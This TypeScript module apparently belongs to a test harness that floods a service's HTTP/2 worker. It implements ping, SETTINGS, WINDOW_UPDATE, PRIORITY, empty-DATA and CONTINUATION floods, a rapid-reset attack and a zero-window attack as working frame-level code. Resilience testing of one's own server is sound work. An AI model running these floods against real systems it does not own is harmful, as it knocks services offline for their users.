import { rest, servicePath, together, whileWelcome, type Attack, type AttackContext } from '../attack.js';
import { newSessions } from '../churn.js';
import { helloMessage } from '../hello.js';
import type { Peer, PeerOptions } from '../peer.js';
import {
  frame,
  frameFlag,
  frameType,
  headersFrames,
  messageFrame,
  resetFrame,
  settingsFrame,
  uint32,
} from '../wire.js';

const perTurn = 500;
const connections = 4;
const initialWindowSize = 4;
// Each id is a session that the worker keeps; what one caller may keep is not the question here.
const sessions = newSessions(301);

interface Flood {
  readonly name: string;
  readonly what: string;
  /** Comes once on each connection. */
  readonly first?: (context: AttackContext, stream: number) => Buffer;
  /** Comes again and again. */
  readonly each: (context: AttackContext, peer: Peer) => Buffer;
  readonly options?: PeerOptions;
}

function flood({ name, what, first, each, options }: Flood): Attack {
  const begun = new WeakSet<Peer>();
  const turn = async (context: AttackContext, peer: Peer): Promise<void> => {
    if (!begun.has(peer)) {
      begun.add(peer);
      const stream = peer.nextStream();
      if (first !== undefined) await peer.write(first(context, stream));
    }
    const parts = Array.from({ length: perTurn }, () => each(context, peer));
    const written = peer.write(Buffer.concat(parts)).then(() => true);
    // Where nothing is taken any more, another connection is.
    if ((await Promise.race([written, rest(context, 1000)])) !== true) peer.destroy();
    context.count('frames', perTurn);
    // Others of this process have their turn too.
    await new Promise((resolve) => setImmediate(resolve));
  };
  return {
    name,
    what,
    by: 'either',
    enough: { what: 'frames', count: 4 * perTurn },
    run: (context) => together(connections, () => whileWelcome(context, (peer) => turn(context, peer), options)),
  };
}

const ofConnection = { flags: frameFlag.none, stream: 0 };
const openCall = (context: AttackContext, stream: number): Buffer =>
  headersFrames(stream, context.headers(servicePath.listPanels), false);

/** Each one has to be answered. */
export const pingFlood = flood({
  name: 'ping-flood',
  what: 'PINGs without end, answers unread',
  options: { reads: false },
  each: () => frame({ ...ofConnection, type: frameType.ping }, Buffer.alloc(8)),
});

/** Each one has to be acknowledged. */
export const settingsFlood = flood({
  name: 'settings-flood',
  what: 'SETTINGS without end, acknowledgements unread',
  options: { reads: false },
  each: () => settingsFrame([[initialWindowSize, 65_535]]),
});

/** Steps of one byte. */
export const windowUpdateFlood = flood({
  name: 'window-update-flood',
  what: 'WINDOW_UPDATEs of one byte without end',
  each: () => frame({ ...ofConnection, type: frameType.windowUpdate }, uint32(1)),
});

/** Streams that are gone before anybody has looked at them. */
export const rapidReset = flood({
  name: 'rapid-reset',
  what: 'HEADERS and RST_STREAM in one go, without end',
  each: (context, peer) => {
    const stream = peer.nextStream();
    return Buffer.concat([openCall(context, stream), resetFrame(stream)]);
  },
});

/** Of streams that nobody has opened. */
export const priorityFlood = flood({
  name: 'priority-flood',
  what: 'PRIORITY of streams that are not there, without end',
  each: (_context, peer) => {
    const stream = peer.nextStream();
    return frame({ type: frameType.priority, flags: 0, stream }, Buffer.from([0, 0, 0, 0, 16]));
  },
});

/** Frames that carry nothing. */
export const emptyDataFlood = flood({
  name: 'empty-data-flood',
  what: 'empty DATA of one call without end',
  first: openCall,
  each: () => frame({ type: frameType.data, flags: 0, stream: 1 }),
});

/** A header block that never ends. */
export const continuationFlood = flood({
  name: 'continuation-flood',
  what: 'CONTINUATION without END_HEADERS',
  first: (_context, stream) => frame({ type: frameType.headers, flags: 0, stream }),
  each: () => {
    const pair = Buffer.from([0, 1, 0x78, 1, 0x79]);
    return frame({ type: frameType.continuation, flags: 0, stream: 1 }, pair);
  },
});

/** Answers that never leave the agent. */
export const zeroWindow = flood({
  name: 'zero-window',
  what: 'calls whose answers are never read, windows of 0',
  options: { settings: [[initialWindowSize, 0]] },
  each: (context, peer) => {
    const stream = peer.nextStream();
    const attaches = stream % 4 === 1;
    const path = attaches ? servicePath.attach : servicePath.listPanels;
    const message = attaches ? helloMessage(sessions[stream % sessions.length] ?? '') : Buffer.alloc(0);
    return Buffer.concat([
      headersFrames(stream, context.headers(path), false),
      messageFrame(stream, message, !attaches),
    ]);
  },
});
